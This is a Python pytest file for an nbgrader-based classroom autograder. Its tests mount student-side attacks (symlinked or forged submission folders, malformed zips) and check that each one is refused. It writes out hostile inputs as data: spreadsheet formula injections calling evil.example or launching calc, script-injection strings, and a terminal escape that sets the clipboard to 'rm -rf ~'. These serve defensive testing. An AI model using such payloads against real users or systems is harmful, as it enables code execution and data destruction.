"""Attacks on the README's "pages that show a student's notebook" and "untrusted names" by a helper
that did not write them; each test holds the attack that broke a guarantee (it fails without the fix).

The exchange is attacked as a student on a shared machine can: any folder name in ``inbound/``, a
symlinked folder or notebook, a FIFO, extra files, a ``timestamp.txt`` of their choosing, a folder
put there under a classmate's name.
"""

from __future__ import annotations

import datetime as dt
import os
import sys
from pathlib import Path

import pytest

from autograder.config import Course

FIXTURES = Path(__file__).parent / "fixtures" / "toy" / "solutions"
A = "00_toy"
NB = f"{A}.ipynb"
UTC = dt.timezone.utc
ENV = dict(os.environ, PATH=str(Path(sys.executable).parent) + os.pathsep + os.environ.get("PATH", ""))


def nb(tag: str) -> str:
    return '{"cells": [], "metadata": {"who": "%s"}, "nbformat": 4, "nbformat_minor": 5}' % tag


def lines(got) -> list[str]:
    return [f"{k} {t}" for k, t in got.report.lines]


# ------------------------------------------------------------------------------------ the name policy

@pytest.mark.parametrize("raw, why", [
    ("_x", "an id must start with a letter or a digit, not '_'"),
    ("(x)", "an id must start with a letter or a digit, not '('"),
    ("=x", "an id must start with a letter or a digit, not '=' (a spreadsheet reads '=', '+', '@' as the start "
           "of a formula)"),
])
def test_a_refusal_names_its_own_reason(raw, why):
    """'_x' was refused "(a spreadsheet reads '=', '+', '@' as the start of a formula)": a reason
    that is not its own."""
    from autograder.names import Refused, student_id

    with pytest.raises(Refused) as err:
        student_id(raw)
    assert str(err.value) == why


def test_a_roster_name_cannot_become_a_formula_where_excel_splits_on_semicolons(course, tmp_path):
    """roster.csv kept ``Smith;=HYPERLINK(...)`` as it was: Excel where the list separator is ';'
    (most of Europe) splits the line there, and the part after it is a cell of its own, a formula
    (quoting does not help: the quote is not at the start of that ';' field)."""
    import csv

    from autograder.names import csv_cell, csv_uncell
    from autograder.roster import import_roster, load_saved

    evil = ['Smith;=HYPERLINK("http://evil.example/?"&A1,"open")', 'Lee; "+cmd|\' /C calc\'!A0', "Kim;@SUM(1)",
            "Ng;;-2+3", "O;'=1", "plain;text", "Park; -"]
    src = tmp_path / "participants.csv"
    with open(src, "w", newline="") as fh:
        csv.writer(fh).writerows([["Username", "First name", "Last name"]]
                                 + [[f"s{i}", "X", name] for i, name in enumerate(evil)])
    import_roster(course, src)
    for line in (course.workdir / "roster.csv").read_text().splitlines():
        for delimiter in (",", ";"):                       # as each locale's Excel splits it
            for cell in next(csv.reader([line], delimiter=delimiter)):
                assert not cell.lstrip(" \"").startswith(("=", "+", "-", "@")) or cell.lstrip(" \"") == "-", line
    assert {s.last_name for s in load_saved(course)} == set(evil)              # read back as they were
    assert [csv_uncell(csv_cell(v)) for v in evil] == evil
    assert csv_cell("plain;text") == "plain;text" and csv_cell("Smith;=1") == "Smith;'=1"


@pytest.mark.parametrize("value", [" =HYPERLINK(\"http://evil.example\",\"x\")", "  +cmd|' /C calc'!A0",
                                   '"@SUM(1)', "' -2+3", " \t=1"])
def test_a_formula_after_leading_spaces_or_quotes_is_neutralised(value):
    """Only a formula at the very start (after apostrophes) was neutralised: one after spaces or a
    quote was kept as it was, and programs that skip leading spaces or quotes read a formula."""
    from autograder.names import csv_cell, csv_uncell

    assert csv_cell(value) == "'" + value and csv_uncell(csv_cell(value)) == value


# ------------------------------------------------------------------------------------ the exchange

NOW = dt.datetime.now(UTC).replace(microsecond=0)
TS = NOW.strftime("%Y-%m-%d %H:%M:%S.%f UTC")          # as nbgrader's submit writes it
SHOWN = NOW.strftime("%Y-%m-%d %H:%M:%S UTC")


@pytest.fixture
def exchange(tmp_path):
    """A course with a work folder and an exchange with an inbound/ folder."""
    from autograder.util import env_path

    env_path()
    course = Course(solutions=FIXTURES, notebooks=tmp_path / "nb", workdir=tmp_path / "w")
    course.workdir.mkdir()
    (tmp_path / "exchange" / "cnnlab" / "inbound").mkdir(parents=True)
    return course, tmp_path / "exchange"


def inbound(ex: Path) -> Path:
    return ex / "cnnlab" / "inbound"


def submit(ex: Path, name: str, files: dict[str, str], stamp: str | None = TS) -> Path:
    """An inbound folder as nbgrader's submit makes it (or as a student makes it by hand)."""
    folder = inbound(ex) / name
    folder.mkdir()
    for f, data in files.items():
        (folder / f).write_text(data)
    if stamp is not None and "timestamp.txt" not in files:
        (folder / "timestamp.txt").write_text(stamp)
    return folder


def test_one_bad_inbound_folder_neither_stops_the_collect_nor_is_collected(exchange):
    """Stock nbgrader stops the whole collect on a folder name it cannot read (ParserError); a
    symlinked folder is collected as the student's (here: the instructor's solution notebook, graded
    and fed back as bob's)."""
    from autograder.collect import collect_exchange

    course, ex = exchange
    submit(ex, f"alice+{A}+{TS}+r1", {NB: nb("alice")})
    submit(ex, f"mallory+{A}+garbage", {NB: nb("mallory")})
    submit(ex, f"mallory+{A}+", {NB: nb("mallory")})
    (inbound(ex) / f"bob+{A}+{TS}+r2").symlink_to(FIXTURES / A, target_is_directory=True)
    submit(ex, f"=HYPERLINK(1)+{A}+{TS}+r3", {NB: nb("formula")})
    submit(ex, f"\uff43arol+{A}+{TS}+r4", {NB: nb("fullwidth")})
    (inbound(ex) / f"dan+{A}+{TS}+r5").write_text("a file, not a folder")
    got = collect_exchange(course, [A], str(ex))
    assert got == [("alice", A)]
    assert sorted(p.name for p in course.submitted.iterdir()) == ["alice"]
    assert (course.submitted / "alice" / A / NB).read_text() == nb("alice")
    assert lines(got) == [
        f"refused inbound/=HYPERLINK(1)+{A}+{TS}+r3/: username '=HYPERLINK(1)': an id must start with a letter or a "
        "digit, not '=' (a spreadsheet reads '=', '+', '@' as the start of a formula); not collected",
        f"refused inbound/bob+{A}+{TS}+r2/: a symlink, refused (it would collect what it points to); not collected",
        f"refused inbound/dan+{A}+{TS}+r5/: not a folder; not collected",
        f"refused inbound/mallory+{A}+/: the time '' in its name does not read as a time; not collected",
        f"refused inbound/mallory+{A}+garbage/: the time 'garbage' in its name does not read as a time; not collected",
        f"refused inbound/\uff43arol+{A}+{TS}+r4/: username '\uff43arol': read as 'carol' (Unicode NFKC: fullwidth or "
        "compatibility letters), but the exchange would file it under the name as written; not collected",
        f"took alice {A}: inbound/alice+{A}+{TS}+r1/ ({NB}), submitted {SHOWN} (exchange folder name)",
    ]


def test_only_notebooks_are_copied_never_through_a_link(exchange):
    """Stock nbgrader copies every file of the folder (an .html file reaches the feedback folder, a
    symlinked notebook is copied from what it points to) and a FIFO stops the whole collect
    (shutil.Error)."""
    from autograder.collect import collect_exchange

    course, ex = exchange
    folder = submit(ex, f"bob+{A}+{TS}+r1", {"mine.ipynb": nb("bob"), "evil.html": "<script>alert(1)</script>",
                                             "submission_secret.txt": "ab12" * 32})
    (folder / NB).symlink_to(FIXTURES / A / NB)
    os.mkfifo(folder / "pipe.ipynb")
    (folder / "sub").mkdir()
    (folder / "sub" / NB).write_text(nb("nested"))
    (folder / ".hidden.ipynb").write_text(nb("hidden"))
    got = collect_exchange(course, [A], str(ex))
    assert got == [("bob", A)]
    dest = course.submitted / "bob" / A
    assert sorted(p.name for p in dest.iterdir()) == ["mine.ipynb", "submission_secret.txt", "timestamp.txt"]
    assert (dest / "submission_secret.txt").read_text() == "ab12" * 32      # release_feedback needs it
    assert (dest / "timestamp.txt").read_text() == TS
    where = f"inbound/bob+{A}+{TS}+r1"
    assert lines(got) == [
        f"refused {where}/.hidden.ipynb: file name '.hidden.ipynb': a hidden file (it starts with '.')",
        f"skipped {where}/{NB}: a symlink, refused (it would copy what it points to)",
        f"skipped {where}/evil.html: not a notebook (only .ipynb files are collected)",
        f"skipped {where}/pipe.ipynb: not a regular file",
        f"skipped {where}/sub: not a notebook (only .ipynb files are collected)",
        f"took bob {A}: {where}/ (mine.ipynb), submitted {SHOWN} (exchange folder name)",
    ]


def test_a_students_timestamp_is_the_one_of_the_folder_name(exchange):
    """Stock nbgrader copies the student's own timestamp.txt: one that does not read makes every
    later collect fail (nbgrader's get_existing_timestamp calls a ``fail`` that CourseDirectory lacks)."""
    from autograder.collect import collect_exchange

    course, ex = exchange
    submit(ex, f"carol+{A}+{TS}+r1", {NB: nb("v1")}, stamp="not a time")
    got = collect_exchange(course, [A], str(ex))
    assert (course.submitted / "carol" / A / "timestamp.txt").read_text() == TS
    assert lines(got)[0] == (f"note inbound/carol+{A}+{TS}+r1/timestamp.txt says 'not a time', not the time of "
                             f"the folder's name; {SHOWN} is recorded")
    later = (NOW + dt.timedelta(seconds=30)).strftime("%Y-%m-%d %H:%M:%S.%f UTC")
    submit(ex, f"carol+{A}+{later}+r2", {NB: nb("v2")}, stamp=later)
    got = collect_exchange(course, [A], str(ex))
    assert got == [("carol", A)]
    assert (course.submitted / "carol" / A / NB).read_text() == nb("v2")
    (kept,) = (course.workdir / "replaced" / "carol" / A).iterdir()
    assert (kept / NB).read_text() == nb("v1")
    # a time in the name far from when the folder appeared (its change time, no user can set it)
    submit(ex, f"eve+{A}+2020-01-01 00:00:00.000000 UTC+r3", {NB: nb("eve")}, stamp="2020-01-01 00:00:00.000000 UTC")
    got = collect_exchange(course, [A], str(ex))
    note = [ln for ln in lines(got) if ln.startswith("note inbound/eve")]
    assert len(note) == 1 and note[0].startswith(
        f"note inbound/eve+{A}+2020-01-01 00:00:00.000000 UTC+r3/: its name says 2020-01-01 00:00:00 UTC, but it "
        "appeared in the exchange at ")


def test_recollect_from_the_exchange_never_deletes(exchange):
    """Stock nbgrader deletes the collected folder (shutil.rmtree) when a newer one arrives, even one
    that holds no notebook."""
    from autograder.collect import collect_exchange

    course, ex = exchange
    submit(ex, f"alice+{A}+{TS}+r1", {NB: nb("v1")})
    collect_exchange(course, [A], str(ex))
    t2 = (NOW + dt.timedelta(seconds=10)).strftime("%Y-%m-%d %H:%M:%S.%f UTC")
    submit(ex, f"alice+{A}+{t2}+r2", {"notes.txt": "forgot it"}, stamp=t2)
    got = collect_exchange(course, [A], str(ex))
    assert (course.submitted / "alice" / A / NB).read_text() == nb("v1")
    assert lines(got) == [f"kept alice {A}: inbound/alice+{A}+{t2}+r2/ holds no notebook; the earlier collection is "
                          "left as it was"]
    t3 = (NOW + dt.timedelta(seconds=20)).strftime("%Y-%m-%d %H:%M:%S.%f UTC")
    submit(ex, f"alice+{A}+{t3}+r3", {NB: nb("v3")}, stamp=t3)
    got = collect_exchange(course, [A], str(ex))
    assert (course.submitted / "alice" / A / NB).read_text() == nb("v3")
    (kept,) = (course.workdir / "replaced" / "alice" / A).iterdir()
    assert (kept / NB).read_text() == nb("v1") and (kept / "timestamp.txt").read_text() == TS
    assert lines(got) == [
        f"replaced alice {A}: the earlier collection was moved to replaced/alice/{A}/{kept.name}",
        f"took alice {A}: inbound/alice+{A}+{t3}+r3/ ({NB}), submitted "
        f"{(NOW + dt.timedelta(seconds=20)):%Y-%m-%d %H:%M:%S} UTC (exchange folder name)",
    ]
    got = collect_exchange(course, [A], str(ex))
    assert got == [("alice", A)] and lines(got) == [f"unchanged alice {A}: already collected, no newer submission"]


@pytest.mark.skipif(os.geteuid() != 0, reason="making a folder another user owns needs root")
def test_a_folder_put_there_by_another_user_cannot_replace_the_students_own(exchange):
    """Stock nbgrader only warns ("cheating attempt?") and collects the later folder: mallory's
    folder named after alice, with a later time, replaces alice's submission."""
    import pwd

    from autograder.collect import collect_exchange

    course, ex = exchange
    other = pwd.getpwuid(65534).pw_name
    mine = submit(ex, f"alice+{A}+{TS}+r1", {NB: nb("alice")})
    later = (NOW + dt.timedelta(seconds=60)).strftime("%Y-%m-%d %H:%M:%S.%f UTC")
    forged = submit(ex, f"alice+{A}+{later}+r2", {NB: nb("forged")}, stamp=later)
    os.chown(forged, 65534, 65534)
    os.chown(forged / NB, 65534, 65534)
    got = collect_exchange(course, [A], str(ex))
    assert (course.submitted / "alice" / A / NB).read_text() == nb("alice")
    assert lines(got) == [
        f"refused inbound/{forged.name}/: put there by unix user {other!r}, not by 'alice' (where one account owns "
        "every student's files, set c.ExchangeCollect.check_owner = False); not collected",
        f"took alice {A}: inbound/{mine.name}/ ({NB}), submitted {SHOWN} (exchange folder name)",
    ]


def test_a_first_collect_from_the_exchange_makes_the_work_folder(tmp_path):
    """collect --exchange on a work folder that does not exist yet (the gradebook lives there): it
    failed with nbgrader's traceback ending in "sqlite3.OperationalError: unable to open database file"."""
    from autograder.collect import collect_exchange

    course = Course(solutions=FIXTURES, notebooks=tmp_path / "nb", workdir=tmp_path / "new" / "w")
    (tmp_path / "exchange" / "cnnlab" / "inbound").mkdir(parents=True)
    submit(tmp_path / "exchange", f"alice+{A}+{TS}+r1", {NB: nb("alice")})
    got = collect_exchange(course, [A], str(tmp_path / "exchange"))
    assert got == [("alice", A)] and (course.submitted / "alice" / A / NB).read_text() == nb("alice")


def test_a_failed_exchange_collect_says_why_in_one_line(tmp_path):
    from autograder.collect import collect_exchange

    course = Course(solutions=FIXTURES, notebooks=tmp_path / "nb", workdir=tmp_path / "w")
    with pytest.raises(RuntimeError) as err:
        collect_exchange(course, [A], str(tmp_path / "no-exchange"))
    assert str(err.value) == (f"nbgrader collect {A} failed: Unwritable directory, please contact your "
                              f"instructor: {tmp_path / 'no-exchange'}")
    (tmp_path / "no-exchange").mkdir()
    with pytest.raises(RuntimeError) as err:
        collect_exchange(course, [A], str(tmp_path / "no-exchange"))
    assert str(err.value) == (f"nbgrader collect {A} failed: Course not found: "
                              f"{tmp_path / 'no-exchange' / 'cnnlab' / 'inbound'}")


def test_formgraders_collect_button_uses_the_courses_exchange_collect(exchange):
    """Formgrader's Collect button is NbGraderAPI.collect with the course's configuration: the same
    class, its decisions in the log formgrader shows."""
    from nbgrader.apps import NbGraderAPI

    from autograder.util import env_path

    course, ex = exchange
    env_path()
    submit(ex, f"alice+{A}+{TS}+r1", {NB: nb("alice")})
    (inbound(ex) / f"bob+{A}+{TS}+r2").symlink_to(FIXTURES / A, target_is_directory=True)
    cfg = course.config()
    cfg.Exchange.root = str(ex)
    out = NbGraderAPI(config=cfg).collect(A)
    assert out["success"], out
    assert sorted(p.name for p in course.submitted.iterdir()) == ["alice"]
    assert f"refused: inbound/bob+{A}+{TS}+r2/: a symlink, refused" in out["log"]
    assert f"took: alice {A}: inbound/alice+{A}+{TS}+r1/" in out["log"]


@pytest.mark.slow   # the CLI in fresh processes (several seconds of CPU each): not in the fast tier
def test_collect_exchange_cli_prints_each_decision(exchange):
    import subprocess

    course, ex = exchange
    submit(ex, f"alice+{A}+{TS}+r1", {NB: nb("alice")})
    submit(ex, f"mallory+{A}+garbage", {NB: nb("m")})
    out = subprocess.run([sys.executable, "-m", "autograder", "collect", "--workdir", str(course.workdir),
                          "--solutions", str(FIXTURES), "--exchange", "--exchange-root", str(ex)],
                         capture_output=True, text=True, env=ENV, timeout=300, cwd=Path(__file__).parent.parent)
    assert out.returncode == 0, out.stdout + out.stderr
    assert f"  refused   inbound/mallory+{A}+garbage/: the time 'garbage' in its name does not read" in out.stdout
    assert f"  took      alice {A}: inbound/alice+{A}+{TS}+r1/ ({NB})" in out.stdout
    assert "collected 1 submission(s)" in out.stdout and "1 file(s) or name(s) not taken" in out.stdout


# ------------------------------------------------------------------------------------ LMS zips

def _zip(path: Path, entries: list[tuple[str, str, bytes]]) -> Path:
    """A zip of ``(name, text, extra field)`` entries, deflated, dated 2026-01-15 10:00:00."""
    import zipfile

    with zipfile.ZipFile(path, "w") as zf:
        for name, text, extra in entries:
            info = zipfile.ZipInfo(name, (2026, 1, 15, 10, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            info.extra = extra
            zf.writestr(info, text)
    return path


def _patch(path: Path, name: str, *, flags: int | None = None, method: int | None = None) -> None:
    """Set the general-purpose flags or the compression method of entry ``name`` in both its headers
    (what an encrypting or Deflate64 zip writer puts there)."""
    import struct
    import zipfile

    raw = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        local = zf.getinfo(name).header_offset
    cd = raw.index(b"PK\x01\x02")                       # the first central directory record
    while True:
        n = struct.unpack_from("<H", raw, cd + 28)[0]
        if raw[cd + 46:cd + 46 + n].decode() == name:
            break
        cd = raw.index(b"PK\x01\x02", cd + 4)
    for off, central in ((local, False), (cd, True)):
        base = off + (2 if central else 0)
        if flags is not None:
            struct.pack_into("<H", raw, base + 6, flags)
        if method is not None:
            struct.pack_into("<H", raw, base + 8, method)
    path.write_bytes(bytes(raw))


@pytest.fixture
def course(tmp_path):
    return Course(solutions=FIXTURES, notebooks=tmp_path / "nb", workdir=tmp_path / "w")


def test_an_encrypted_or_deflate64_entry_is_skipped_and_the_rest_kept(course, tmp_path):
    """zipfile raises RuntimeError (a password) and NotImplementedError (Deflate64, AES) on open: the
    whole collect stopped with a bare traceback, the honest submissions beside them lost."""
    from autograder.collect import collect_zip

    z = _zip(tmp_path / "lms.zip", [(f"alice_{A}.ipynb", nb("alice"), b""), (f"bob_{A}.ipynb", nb("bob"), b""),
                                    (f"carol_{A}.ipynb", nb("carol"), b"")])
    _patch(z, f"bob_{A}.ipynb", flags=0x1)
    _patch(z, f"carol_{A}.ipynb", method=9)
    got = collect_zip(course, z)
    assert got == [("alice", A)]
    assert [ln for ln in lines(got) if ln.startswith("skipped")] == [
        f"skipped bob_{A}.ipynb: unreadable (encrypted: a password-protected zip entry; ask for it without a "
        "password)",
        f"skipped carol_{A}.ipynb: unreadable (NotImplementedError: That compression method is not supported; "
        "re-zip it with ordinary (deflate) compression)",
    ]


def test_a_zip_entry_time_out_of_range_is_no_time(course, tmp_path):
    """An NTFS time field (0x000A) 58,000 years after 1601 raised OverflowError while the zip was
    listed: the whole collect stopped with a bare traceback (the CLI does not catch it)."""
    import struct

    from autograder.collect import collect_zip

    ntfs = struct.pack("<HHI", 0x000A, 32, 0) + struct.pack("<HHQQQ", 1, 24, 2**63, 0, 0)
    z = _zip(tmp_path / "lms.zip", [(f"alice_{A}.ipynb", nb("alice"), b""), (f"bob_{A}.ipynb", nb("bob"), ntfs)])
    got = collect_zip(course, z)
    assert got == [("alice", A), ("bob", A)]
    assert f"took bob {A}: bob_{A}.ipynb, no submission time" in lines(got)
    assert not (course.submitted / "bob" / A / "timestamp.txt").exists()


def test_two_moodle_students_of_one_name_stay_two(course, tmp_path):
    """Moodle names its folders <Full Name>_<participant number>_...: two students called Ann Lee were
    both made 'ann_lee', and the second one's notebook was dropped as an "earlier submission" of
    the first."""
    from autograder.collect import collect_zip

    z = _zip(tmp_path / "moodle.zip", [
        (f"Ann Lee_1111_assignsubmission_file/{NB}", nb("first Ann"), b""),
        (f"Ann Lee_2222_assignsubmission_file/{NB}", nb("second Ann"), b""),
        (f"Bo Chen_3333_assignsubmission_file/{NB}", nb("bo"), b"")])
    got = collect_zip(course, z)
    assert got == [("bo_chen", A)]
    assert not (course.submitted / "ann_lee").exists()
    assert lines(got)[:2] == [
        f"refused Ann Lee_1111_assignsubmission_file/{NB}: 'Ann Lee' would be student 'ann_lee', as would "
        "'Ann Lee (id 2222)'; rename one (or import a roster)",
        f"refused Ann Lee_2222_assignsubmission_file/{NB}: 'Ann Lee' would be student 'ann_lee', as would "
        "'Ann Lee (id 1111)'; rename one (or import a roster)",
    ]


# ------------------------------------------------------------------------------------ feedback through the exchange

@pytest.fixture(scope="module")
def exchange_class(tmp_path_factory):
    """The toy assignment released to an exchange, fetched and submitted by nbgrader's own student
    side (alice), collected with formgrader's Collect (NbGraderAPI.collect) and autograded."""
    from nbgrader.apps import NbGraderAPI
    from nbgrader.auth import Authenticator
    from nbgrader.coursedir import CourseDirectory
    from nbgrader.exchange.default import ExchangeFetchAssignment, ExchangeSubmit

    from autograder import engine
    from autograder.release import release
    from autograder.util import Limits, env_path

    env_path()
    root = tmp_path_factory.mktemp("exchange_class")
    course = Course(solutions=FIXTURES, notebooks=root / "nb", workdir=root / "w",
                    limits=Limits(cell_timeout=10, notebook_timeout=120, memory_mb=3072))
    course.workdir.mkdir()
    (root / "exchange").mkdir()
    release([A], course=course)
    cfg = course.config()
    cfg.Exchange.root = str(root / "exchange")
    api = NbGraderAPI(config=cfg)
    assert api.release_assignment(A)["success"]
    scfg = course.config()
    scfg.Exchange.root = str(root / "exchange")
    home = root / "home" / "alice"
    home.mkdir(parents=True)
    scfg.CourseDirectory.root = str(home)
    scfg.CourseDirectory.student_id = "alice"
    scfg.Exchange.cache = str(home / ".cache")
    cd = CourseDirectory(config=scfg)
    cd.assignment_id = A
    for step in (ExchangeFetchAssignment, ExchangeSubmit):
        app = step(coursedir=cd, authenticator=Authenticator(config=scfg), config=scfg)
        app.assignment_dir = str(home)
        app.start()
    assert api.collect(A)["success"]
    results = engine.autograde(course, jobs=1, progress=False, echo=lambda *_: None)
    assert {r.student: r.status for r in results} == {"alice": "graded"}
    return course, api, cd, scfg, home


def test_feedback_from_the_cli_can_be_released_and_fetched(exchange_class):
    """Grading writes only the notebook into autograded/, and the CLI's feedback removed every file but
    the pages: formgrader's Release Feedback (nbgrader's release_feedback) then failed for every
    student (FileNotFoundError: feedback/<student>/<assignment>/timestamp.txt)."""
    from nbgrader.auth import Authenticator
    from nbgrader.exchange.default import ExchangeFetchFeedback

    from autograder.feedback import generate_feedback

    course, api, cd, scfg, home = exchange_class
    (page,) = generate_feedback(course, [A])
    folder = course.feedback / "alice" / A
    assert sorted(p.name for p in folder.iterdir()) == [f"{A}.html", "submission_secret.txt", "timestamp.txt"]
    assert (folder / "timestamp.txt").read_bytes() == (course.submitted / "alice" / A / "timestamp.txt").read_bytes()
    out = api.release_feedback(A, "alice")
    assert out["success"], out.get("error")
    fetch = ExchangeFetchFeedback(coursedir=cd, authenticator=Authenticator(config=scfg), config=scfg)
    fetch.assignment_dir = str(home)
    fetch.start()
    (got,) = (home / A / "feedback").rglob("*.html")
    assert got.read_bytes() == page.read_bytes()


def test_formgrader_feedback_after_cli_autograde_can_be_released(exchange_class):
    """The CLI's autograde published only the notebook into autograded/: formgrader's Generate
    Feedback (nbgrader's GenerateFeedback, which copies autograded/'s other files) then left
    feedback/ without timestamp.txt and submission_secret.txt, and Release Feedback failed."""
    course, api, *_ = exchange_class
    graded = course.autograded / "alice" / A
    assert sorted(p.name for p in graded.iterdir()) == [f"{A}.ipynb", "submission_secret.txt", "timestamp.txt"]
    for name in ("submission_secret.txt", "timestamp.txt"):
        assert (graded / name).read_bytes() == (course.submitted / "alice" / A / name).read_bytes()
    out = api.generate_feedback(A, "alice", force=True)
    assert out["success"], out.get("error")
    out = api.release_feedback(A, "alice")
    assert out["success"], out.get("error")


def test_an_html_file_in_autograded_never_reaches_the_feedback_folder(exchange_class):
    """nbgrader copies every other file of autograded/<student>/<assignment>/ into feedback/ (where
    nbgrader's own Autograde, e.g. formgrader's button, put what the submission carried): a page of
    the student's, opened by the instructor from JupyterLab, would run in the instructor's origin."""
    from autograder import feedback

    course = exchange_class[0]
    auto = course.autograded / "alice" / A
    (auto / "evil.html").write_text("<script>alert(1)</script>")
    (auto / "sub").mkdir()
    (auto / "sub" / f"{A}.html").write_text("<script>alert(2)</script>")
    try:
        feedback.generate_feedback(course, [A])
    finally:
        (auto / "evil.html").unlink()
        (auto / "sub" / f"{A}.html").unlink()
        (auto / "sub").rmdir()
    folder = course.feedback / "alice" / A
    assert sorted(str(p.relative_to(folder)) for p in folder.rglob("*") if p.is_file()) == [
        f"{A}.html", "submission_secret.txt", "timestamp.txt"]
    assert feedback.LEFT_OUT == [f"{folder / 'evil.html'}: a file of the submission, not a feedback page; removed",
                                 f"{folder / 'sub' / (A + '.html')}: a file of the submission, not a feedback page; "
                                 "removed"]


# ------------------------------------------------------------------------------------ formgrader's own pages

@pytest.mark.parametrize("template, path_args", [
    ("manage_students_assignments.tpl", {"student_id": '";console.log("PWNED");"'}),
    ("manage_students_notebook_submissions.tpl", {"student_id": "alice",
                                                  "assignment_id": '</script><script>console.log("PWNED")</script>'}),
    ("manage_submissions.tpl", {"assignment_id": '";console.log("PWNED");"'}),
    ("gradebook_notebooks.tpl", {"assignment_id": '";console.log("PWNED");"'}),
    ("gradebook_notebook_submissions.tpl", {"assignment_id": "a", "notebook_id": '<img src=x onerror="PWNED">'}),
])
def test_formgraders_own_pages_escape_the_ids_of_their_url(tmp_path, monkeypatch, template, path_args):
    """Formgrader renders these pages with a Jinja environment without autoescape, from ids that
    Tornado takes from the URL's path (decoded): a link to /formgrader/manage_students/";<code>;"
    (a student's markdown link in the grading view is enough) ran <code> in the instructor's Jupyter
    origin when clicked. Checked in Chromium: console.log ran on all five pages."""
    from types import SimpleNamespace

    from nbgrader.server_extensions.formgrader.formgrader import FormgradeExtension

    course = Course(solutions=FIXTURES, notebooks=tmp_path / "nb", workdir=tmp_path / "w")
    monkeypatch.chdir(tmp_path)
    ext = FormgradeExtension(config=course.config())      # the configuration formgrader loads
    ext.root_dir = str(tmp_path)
    ext.initialize([])
    webapp = SimpleNamespace(settings={})
    ext.init_tornado_settings(webapp)
    page = webapp.settings["nbgrader_jinja2_env"].get_template(template).render(
        base_url="/user/instructor", url_prefix="course", **path_args)
    for value in path_args.values():
        if value != "alice" and value != "a":
            assert value not in page
            assert value.replace('"', "&#34;").replace("<", "&lt;").replace(">", "&gt;") in page


def test_a_path_thousands_of_folders_deep_is_not_looked_at(course, tmp_path):
    """Every folder of a path was a candidate <student>/<assignment>/: one zip entry 4,000 folders
    deep (a 28 kB name) took 22 s and printed 4,001 lines of about 28 kB each (a name 9,000 deep,
    the most a zip allows, would take minutes and gigabytes), and collected a student '00_toy'."""
    import zipfile

    from autograder.collect import collect_folder, collect_zip

    z = tmp_path / "deep.zip"
    with zipfile.ZipFile(z, "w") as zf:
        zf.writestr(f"{A}/" * 4000 + "x.ipynb", "{}")
        zf.writestr(f"{A}/" * 3000, "")                              # a folder entry as deep
        zf.writestr(f"alice_{NB}", nb("alice"))
    got = collect_zip(course, z)
    assert got == [("alice", A)]
    assert lines(got)[0] == (f"skipped {f'{A}/' * 16}...: a path 4001 folders deep (more than 16), not an LMS "
                             "download's; not looked at")
    assert len(lines(got)) == 2                                    # and alice taken
    src = tmp_path / "subs"
    deep = src.joinpath(*["d"] * 20)
    deep.mkdir(parents=True)
    (deep / NB).write_text(nb("deep"))
    (src / "bob").mkdir()
    (src / "bob" / NB).write_text(nb("bob"))
    got = collect_folder(course, src)
    assert got == [("bob", A)]
    assert lines(got)[0] == (f"skipped {'/'.join(['d'] * 16)}/: a path 17 folders deep (more than 16), not an "
                             "LMS download's; not looked at")


@pytest.mark.slow   # the CLI in fresh processes (several seconds of CPU each): not in the fast tier
def test_roster_messages_print_no_terminal_escapes(course, tmp_path):
    """A display name or a column name from the LMS is printed in a note or an error: an escape
    sequence in it reached the instructor's terminal as it was (here: clear the screen and write a
    line of its own, or set the clipboard with OSC 52)."""
    import subprocess

    fake = "\x1b[2J\x1b[Himported 30 student(s)\x1b]52;c;cm0gLXJmIH4=\x07"
    src = tmp_path / "participants.csv"
    src.write_text(f"Username,First name,Last name\nada,Ada,Lovelace\n,Eve,{fake}\n")
    bad = tmp_path / "bad.csv"
    bad.write_text(f"Name,Notes{fake}\nAda,x\n")
    outs = []
    for roster in (src, bad):
        out = subprocess.run([sys.executable, "-m", "autograder", "roster", str(roster), "--workdir",
                              str(course.workdir), "--solutions", str(FIXTURES)],
                             capture_output=True, text=True, env=ENV, timeout=300, cwd=Path(__file__).parent.parent)
        outs.append(out.stdout + out.stderr)
    assert "\x1b" not in outs[0] and "\x07" not in outs[0], outs[0]
    assert "note: participants.csv: line 3: Eve \\u001b[2J\\u001b[Himported 30 student(s)" in outs[0]
    assert "\x1b" not in outs[1] and "its columns: Name, Notes\\u001b[2J" in outs[1], outs[1]


# ------------------------------------------------------------------------------------ demo

def test_demo_never_deletes_a_class_collected_into_its_folder_later(tmp_path, capsys):
    """The demo (scripts/main.sh) and every real command share the default work folder course/: a
    class collected there after a demo, its gradebook and its replaced/ backups, were deleted by the
    next demo, which recognised its folders by name only."""
    from autograder.cli import DEMO_MARK, _demo_folder, _demo_mark
    from autograder.collect import collect_folder

    work = tmp_path / "course"
    assert _demo_folder(work) == (None, set())
    (work / "submitted" / "sample01" / A).mkdir(parents=True)           # what a finished demo leaves
    (work / "submitted" / "sample01" / A / NB).write_text(nb("sample"))
    (work / "gradebook.db").write_text("the demo's")
    _demo_mark(work, ["gradebook.db", "submitted"])
    assert _demo_folder(work) == (None, set())                          # untouched: replaced, as before
    assert sorted(p.name for p in work.iterdir()) == [DEMO_MARK]
    (work / "submitted" / "sample01" / A).mkdir(parents=True)
    (work / "submitted" / "sample01" / A / NB).write_text(nb("sample"))
    _demo_mark(work, ["submitted"])
    capsys.readouterr()
    real = tmp_path / "real"
    (real / "ada" / A).mkdir(parents=True)
    (real / "ada" / A / NB).write_text(nb("ada's work"))
    course = Course(solutions=FIXTURES, notebooks=tmp_path / "nb", workdir=work)
    assert collect_folder(course, real) == [("ada", A)]
    problem, _ = _demo_folder(work)
    assert problem == (f"demo: {work} holds work the demo did not make (submitted/ada/{A}/{NB}, "
                       f"submitted/ada/{A}/timestamp.txt changed or added since the demo); nothing was changed. "
                       "Give a new folder with --workdir")
    assert (work / "submitted" / "ada" / A / NB).read_text() == nb("ada's work")
    assert (work / "submitted" / "sample01" / A / NB).read_text() == nb("sample")


# ------------------------------------------------------------------------------------ the sanitiser's parser

def _depth(html_text: str) -> int:
    """How deep the elements of well-formed HTML (nh3's output) nest."""
    from html.parser import HTMLParser

    void = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}

    class Depth(HTMLParser):
        depth = deepest = 0

        def handle_starttag(self, tag, attrs):
            if tag not in void:
                self.depth += 1
                self.deepest = max(self.deepest, self.depth)

        def handle_endtag(self, tag):
            if tag not in void:
                self.depth -= 1

    d = Depth()
    d.feed(html_text)
    return d.deepest


# each nests in an HTML parser without a counter of start and end tags seeing it (the depth bound
